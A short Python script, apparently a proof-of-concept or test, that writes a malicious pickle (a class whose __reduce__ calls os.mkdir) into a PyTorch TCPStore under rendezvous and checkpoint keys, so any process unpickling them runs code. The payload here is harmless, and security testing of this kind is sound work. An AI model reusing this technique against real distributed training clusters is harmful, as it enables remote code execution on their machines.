# mypy: allow-untyped-defs, allow-untyped-calls, allow-any-generics
import base64
import os
import pickle
import sys
from datetime import timedelta

from torch.distributed import TCPStore  # type: ignore[attr-defined]


class Attack:
    def __reduce__(self):
        return os.mkdir, (sys.argv[1],)


host, port = sys.argv[2].split(":")
store = TCPStore(host, int(port), is_master=False, timeout=timedelta(seconds=60), wait_for_workers=False)
pickled = pickle.dumps(Attack())
store.set("torch.rendezvous.none", base64.b64encode(pickled).decode())
for name in ("start", "moved"):
    store.set(f"jitckpt/none/{name}", pickled.hex())
print("written")
